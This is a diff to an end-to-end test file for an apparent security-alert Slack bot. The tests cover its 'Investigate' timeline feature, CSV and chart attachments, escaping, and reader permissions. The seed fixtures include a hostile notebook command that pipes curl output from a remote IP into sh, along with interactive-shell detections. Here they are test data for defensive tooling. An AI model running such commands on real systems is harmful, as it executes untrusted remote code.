@@ -51,7 +51,7 @@ async def posted_finding(bot: Bot, detection: str = "Kernel Module Loaded") -> d
     bot.add(capsule8("c8-1", detection, "i-0driver000000001", 5))
     await bot.webhook()
     await bot.settle()
-    [finding] = bot.findings()
+    [finding] = [f for f in bot.findings() if detection in bot.text_of(f)]
     return finding
 
 
@@ -294,3 +294,80 @@ async def test_without_a_routing_key_the_page_button_is_not_offered(tmp_path, sl
         assert button(bot, finding, PAGE) is None and button(bot, finding, QUARANTINE) is None
     finally:
         await bot.stop()
+
+
+# ---- Investigate -------------------------------------------------------------------------------
+
+INVESTIGATE = "esm.investigate"
+SUSPECT = "alice@example.com"
+
+
+def seed_investigation(bot: Bot, capsule8_events: int = 3, cluster_events: int = 4) -> None:
+    from bot.cli.audit_rows import account_row, minutes_ago
+    from tests.e2e.conftest import notebook_command
+
+    for i in range(capsule8_events):
+        bot.add(capsule8(f"c8-extra-{i}", "Suspicious Interactive Shell", "i-0driver000000001", 30 + i * 0.1,
+                         commandLine=f"bash -i *bold* <!channel> {i}"))
+    bot.add(notebook_command("nb-1", CLUSTER, 20, SUSPECT, "%sh curl http://198.51.100.9/x | sh <@U0BOSS>"))
+    bot.add(account_row("acc-1", "tokenLogin", SUSPECT, minutes_ago(90)))
+    bot.add(account_row("acc-2", "generateDbToken", SUSPECT, minutes_ago(60 * 24)))
+    now_ms = int(time.time() * 1000)
+    for i in range(cluster_events):
+        bot.dbx.add_event(CLUSTER, "INIT_SCRIPTS_FINISHED", {"cluster_size": {"num_workers": i}},
+                          timestamp_ms=now_ms - (40 - i * 0.1) * 60_000)
+    bot.dbx.add_run(77, CLUSTER, run_name="exfil-job", creator=SUSPECT, start_ms=now_ms - 15 * 60_000)
+
+
+async def test_investigate_posts_one_timeline_reply_with_csv_and_chart(make_bot):
+    bot = await make_bot()
+    seed_investigation(bot, cluster_events=60)  # more than one page (50) of cluster events
+    finding = await posted_finding(bot)
+
+    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE, user_id=OUTSIDER))  # anyone may read
+    await bot.settle()
+
+    assert answer.startswith("Posted the timeline in the thread:") and "2 attached file(s)" in answer
+    [reply] = [r for r in bot.replies(finding) if "Investigation" in r.get("text", "")]
+    shown = json.dumps(reply["blocks"])
+    assert "Suspicious Interactive Shell" in shown and "exfil-job" in shown and "INIT_SCRIPTS_FINISHED" in shown
+    assert "tokenLogin" in shown and "created a personal access token" in shown
+    assert f"User looked at: {SUSPECT}, ran the last notebook command before the event" in shown
+    assert "<!channel>" not in shown and "&lt;!channel&gt;" in shown, "outside values are escaped"
+    assert "<@U0BOSS>" not in shown
+    files = {f["name"].rsplit(".", 1)[1]: f for f in bot.slack.files(CHANNEL)}
+    assert set(files) == {"csv", "png"} and all(f["thread_ts"] == finding["ts"] for f in files.values())
+    assert files["png"]["content"].startswith(b"\x89PNG")
+    csv_text = files["csv"]["content"].decode()
+    assert csv_text.startswith("time,source,who,what,detail")
+    assert csv_text.count("INIT_SCRIPTS_FINISHED") == 60, "every page of cluster events was read"
+    assert len(bot.dbx.calls_to("/api/2.1/clusters/events")) >= 2
+    assert "'%sh" not in csv_text and "http://198.51.100.9" in csv_text
+
+
+async def test_a_long_timeline_stays_within_slacks_limits_and_the_csv_has_all_of_it(make_bot):
+    bot = await make_bot()
+    seed_investigation(bot, capsule8_events=400, cluster_events=0)
+    finding = await posted_finding(bot)
+
+    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE))
+    await bot.settle()
+
+    assert answer.startswith("Posted the timeline"), answer
+    [reply] = [r for r in bot.replies(finding) if "Investigation" in r.get("text", "")]
+    assert len(reply["blocks"]) <= 50
+    assert all(len(b.get("text", {}).get("text", "")) <= 3000 for b in reply["blocks"])
+    assert "more entries in the attached CSV" in json.dumps(reply["blocks"])
+    [csv_file] = [f for f in bot.slack.files(CHANNEL) if f["name"].endswith(".csv")]
+    assert csv_file["content"].decode().count("Suspicious Interactive Shell") == 400
+
+
+async def test_with_readers_set_investigate_is_refused_to_others_before_any_query(make_bot):
+    bot = await make_bot(ESM_READERS="U0READER")
+    finding = await posted_finding(bot)
+    calls = len(bot.dbx.calls)
+
+    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE, user_id=OUTSIDER))
+
+    assert answer.startswith("Refused:")
+    assert bot.slack.files() == [] and len(bot.dbx.calls) == calls
